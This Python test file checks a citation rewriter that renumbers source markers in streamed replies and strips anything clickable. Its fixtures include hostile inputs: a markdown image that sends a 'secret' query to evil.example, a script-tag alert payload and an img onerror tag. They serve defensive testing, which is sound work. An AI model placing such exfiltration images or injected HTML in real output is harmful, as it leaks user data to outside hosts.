"""The rewriter: what a reader sees does not depend on how a reply was cut, and holds nothing to click."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from refdesk.citations.links import addresses
from refdesk.citations.rewriting import Rewriter

WORDS = r"""
[ ] [[ ]] [[1]] [[2]] [1] [[1,3]] [[1][2]] 【2】 ［3］ [0] [-1] [99] [^1] [1-3] 1 2 9 ١
, ; - . ? ( ) ! : / // \ | ` `` ``` ~~~ < > " ' ]( ]: (u) word Ünï 那数据 é
<b> </b> <!-- --> <int> <img http https:// www www. https://evil.example/x https://ok.example/a
[text](https://evil.example) ![i](u) [[1]](u) <https://evil.example>
"""
FRAGMENTS = WORDS.split()
SPACES = [
    "\n",
    "\n\n",
    " ",
    "  ",
    "    ",
    "\t",
    "\n```\n",
    "```py\n",
    "- ",
    "> ",
    ", ",
    "[Source 2]",
    "<a href='x'>",
]
REPLIES = st.lists(st.sampled_from(FRAGMENTS + SPACES) | st.text(max_size=4), max_size=14).map("".join)
KNOWN = addresses(["See https://ok.example/a for more."])
FENCE = re.compile(
    r"(?ms)^ {0,3}(`{3,})[^`\n]*\n.*?(?:^ {0,3}\1`*[ \t]*$|\Z)"
    r"|^ {0,3}(~{3,})[^\n]*\n.*?(?:^ {0,3}\2~*[ \t]*$|\Z)"
)
CODE = re.compile(r"(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")


def rewrite(text: str, cuts: list[int] | None = None, evidence: int = 3) -> tuple[str, Rewriter]:
    rewriter = Rewriter({number: number for number in range(1, evidence + 1)}, KNOWN)
    edges = [0, *sorted({cut % (len(text) + 1) for cut in cuts or []}), len(text)]
    shown = [rewriter.feed(text[start:end]) for start, end in pairwise(edges)]
    return "".join([*shown, rewriter.finish()]), rewriter


def prose(text: str) -> str:
    """Blank out what is code, keeping offsets."""
    return CODE.sub(lambda m: "`" * len(m[0]), FENCE.sub(lambda m: "`" * len(m[0]), text))


@settings(max_examples=1000, deadline=None)
@given(REPLIES, st.lists(st.integers(0, 400), max_size=12))
@example("http:<b></b>//evil.example", [6, 13, 14])
@example("a  [[9]]  b", [2, 9, 10])
def test_cuts_do_not_matter(text: str, cuts: list[int]) -> None:
    whole, once = rewrite(text)
    pieces, cut = rewrite(text, cuts)
    assert pieces == whole
    assert (cut.order, cut.places) == (once.order, once.places)
    assert (cut.removed_markers, cut.removed_links) == (once.removed_markers, once.removed_links)


@settings(max_examples=600, deadline=None)
@given(REPLIES)
def test_character_by_character_is_the_same(text: str) -> None:
    assert rewrite(text, list(range(len(text))))[0] == rewrite(text)[0]


@settings(max_examples=1000, deadline=None)
@given(REPLIES)
def test_every_marker_shown_is_one_that_was_placed(text: str) -> None:
    shown, rewriter = rewrite(text)
    for place in rewriter.places:
        assert shown.startswith(f"[{place.marker}]", place.start)
    placed = {place.start for place in rewriter.places}
    assert all(found.start() in placed for found in re.finditer(r"\[\d+\]", prose(shown)))


@settings(max_examples=500, deadline=None)
@given(REPLIES)
def test_numbers_follow_first_appearance(text: str) -> None:
    _, rewriter = rewrite(text)
    seen = list(dict.fromkeys(place.marker for place in rewriter.places))
    assert seen == list(range(1, len(seen) + 1))
    assert len(set(rewriter.order)) == len(rewriter.order) == len(seen)
    assert set(rewriter.order) <= {1, 2, 3}
    assert all(rewriter.order[place.marker - 1] == place.number for place in rewriter.places)


@settings(max_examples=1000, deadline=None)
@given(REPLIES)
def test_nothing_is_left_to_click(text: str) -> None:
    left = prose(rewrite(text)[0])
    assert "](" not in left
    assert not re.search(r"^ {0,3}\[[^\]\n]+\]:", left, re.MULTILINE)
    assert not re.search(r"(?i)</?(?:a|b|img|script|iframe)\b[^<>]*>", left)  # HTML allows no space after <
    shown = re.findall(r"(?i)(?:[a-z]+://|www\.\w)[^\s<]*", left)
    assert {address.rstrip(".,;:!?)]}\"'*_~") for address in shown} <= {"https://ok.example/a"}


@pytest.mark.parametrize(
    ("written", "shown", "order", "removed"),
    [
        ("Leave is 30 days [[2]].", "Leave is 30 days [1].", [2], 0),
        ("a [[3]] b [[1]][[3]].", "a [1] b [2][1].", [3, 1], 0),
        ("a [[1][2]], b [[1, 3]] c [1], [2]", "a [1][2], b [1][3] c [1][2]", [1, 2, 3], 0),
        ("a [[1]] [[1]], [[1]].", "a [1].", [1], 0),
        ("【1】 ［2］ 【3†source】 [^1] [Source 2]", "[1][2][3]", [1, 2, 3], 0),
        ("a [[9]]. b [0] c [-1] d [[2, 7]]", "a. b c d [1]", [2], 4),
        ("a [1-3] b", "a [1][2][3] b", [1, 2, 3], 0),
        ("[[9]] Start", "Start", [], 1),
        ("x in [0, 1] and [-1, 1]", "x in [0, 1] and [-1, 1]", [], 0),
        ("end [", "end", [], 1),
        ("end [[1", "end", [], 1),
        ("end [[1\nnext", "end\nnext", [], 1),
        ("- [ ] task [x] [sic]", "- [ ] task [x] [sic]", [], 0),
        ("see [as in [1]] [[1]]] wow![[2]]", "see [as in [1]] [1] wow![2]", [1, 2], 0),
        ("`a[0]` and ``b`[1]`` [[1]]", "`a[0]` and ``b`[1]`` [1]", [1], 0),
        ("```py\nx[1]\n```\n[[1]]", "```py\nx[1]\n```\n[1]", [1], 0),
        ("那[[1]]数据[[2]]。", "那[1]数据[2]。", [1, 2], 0),
        ("a ［１，３］ b 〔2〕 c ⟦1⟧", "a [1][2] b [3] c [1]", [1, 3, 2], 0),
        ("a [[1–3]] b [2—3] c [1 to 2]", "a [1][2][3] b [2][3] c [1][2]", [1, 2, 3], 0),
        ("a [1 and 3], b [2\u00a0; 1]", "a [1][2], b [3][1]", [1, 3, 2], 0),
        (r"a \[\[2\]\], b \[1\].", "a [1], b [2].", [2, 1], 0),
        ("a &#91;2&#93; b [&#x31;] c [&#50;]", "a [1] b [2] c [1]", [2, 1], 0),
        ("a [\u200b2\u200b] b [*1*]", "a [1] b [2]", [2, 1], 0),
        ("a 【2】, [0]. b [[0]] c [-2] d [[4-6]]", "a [1]. b c d", [2], 6),
        ("a [[12345678901234567890]] b", "a b", [], 1),
        (f"a [{'9' * 5000}] b [1-{'9' * 5000}]", "a b [1]", [1], 2),
        (f"a [{'0' * 5000}1] b", "a b", [], 1),
        ("`` x[1] ` y[[2]] `` [[1]]", "`` x[1] ` y[[2]] `` [1]", [1], 0),
        ("~~~\nx[[1]]\n~~~\n[[1]]", "~~~\nx[[1]]\n~~~\n[1]", [1], 0),
        ("1. so:\n   ```\n   a[1]\n   ```\n[[2]]", "1. so:\n   ```\n   a[1]\n   ```\n[1]", [2], 0),
        ("```\r\nx[1]\r\n```\r\n[[1]]", "```\nx[1]\n```\n[1]", [1], 0),
        ("AT&T, R&D &amp; x &", "AT&T, R&D &amp; x &", [], 0),
    ],
)
def test_markers(written: str, shown: str, order: list[int], removed: int) -> None:
    text, rewriter = rewrite(written)
    assert (text, rewriter.order, rewriter.removed_markers) == (shown, order, removed)


@pytest.mark.parametrize(
    ("written", "shown", "removed"),
    [
        ("[text](https://evil.example/[1])", "text", 1),
        ("[a [b](c) d](e 'title')", "a b d", 2),
        ("![pixel](https://evil.example/?q=secret) x", "pixel x", 1),
        ("[[1]](https://evil.example).", "[1].", 1),
        ("<a href='https://evil.example'>here</a>, <img src=x onerror=y>.", "here,.", 3),
        ("<script>alert(1)</script>", "alert(1)", 2),
        ("<https://evil.example> x", "x", 2),
        ("see https://evil.example/a?b=c. And https://ok.example/a.", "see. And `https://ok.example/a`.", 1),
        ("https://ok.example/a?x=secret", "", 1),
        ("https://ok.example/a<b></b>?x=secret", "`https://ok.example/a`?x=secret", 2),
        ("www<b></b>.evil.example", "www. evil.example", 2),
        ("[label]: https://evil.example", "[label] :", 1),
        ("[label]: /path", "[label] : /path", 0),
        ("List<int> and <stdin> and a < b", "List<int> and <stdin> and a < b", 0),
        ("an <img src=x", "an < img src=x", 0),
        ("[x](not a link)", "[x] (not a link)", 0),
        ("`[x](u)`", "`[x](u)`", 0),
        ("a ` b [x](u) ` c", "a ` b [x](u) ` c", 0),
        ("a ` b\n- [x](u) ` c", "a ` b\n- x ` c", 1),
        ("| `a | [x](u)` |", "| `a | x` |", 1),
        ("```\r\n```\r\n[x](u)", "```\n```\nx", 1),
        ("a\r[label]: /path", "a\n[label] : /path", 0),
        ("<int>\n[x](u)", "< int>\nx", 1),
        ("- a\n\n  ```\n  code\nend [x](u)", "- a\n\n  ```\n  code\nend x", 1),
        ("`a`<b></b>```\n[x](u)", "`a` ```\nx", 3),
        ("`[x](u)`<b>`", "`[x](u)` `", 1),
        ("\\<b>`[x](u)`", "\\ `[x](u)`", 1),
        ("see www.<b>evil.example", "see www. evil.example", 1),
    ],
)
def test_what_could_be_clicked(written: str, shown: str, removed: int) -> None:
    text, rewriter = rewrite(written)
    assert (text, rewriter.removed_links) == (shown, removed)


def test_sources_that_count_as_the_same_share_a_marker() -> None:
    rewriter = Rewriter({1: "a", 2: "b", 3: "a"})
    assert rewriter.feed("x [[3]][[1]], y [[2]], z [[1]] [[3]]") + rewriter.finish() == "x [1], y [2], z [1]"
    assert rewriter.order == ["a", "b"]
    placed = [(place.start, place.marker, place.number) for place in rewriter.places]
    assert placed == [(2, 1, 3), (2, 1, 1), (9, 2, 2), (16, 1, 1), (16, 1, 3)]


def test_numbers_that_were_not_shown_are_removed() -> None:
    rewriter = Rewriter({1: 1, 4: 4})
    assert rewriter.feed("a [[2]] b [[4]].") + rewriter.finish() == "a b [1]."
    assert (rewriter.order, rewriter.removed_markers) == ([4], 1)
